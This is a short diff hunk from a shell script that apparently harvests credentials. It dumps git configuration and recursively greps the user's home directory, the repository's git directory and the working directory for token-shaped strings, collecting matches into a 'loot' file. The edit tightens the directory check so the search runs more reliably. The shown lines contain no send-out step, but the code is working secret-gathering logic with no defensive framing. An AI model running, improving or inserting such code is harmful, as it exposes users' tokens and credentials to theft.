@@ -9,7 +9,7 @@ loot "agent $$, parent $PARENT"
 loot "git config:" "$(git config --list --show-origin 2>&1)"
 gitdir=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)
 for dir in "$HOME" "$gitdir" "$PWD" "$@"; do
-  [ -n "$dir" ] || continue
+  [ -d "$dir" ] || continue
   loot "searched $dir"
   grep -r -a -o -E "$TOKEN_SHAPES" -- "$dir" 2>/dev/null >> "$LOOT"
 done
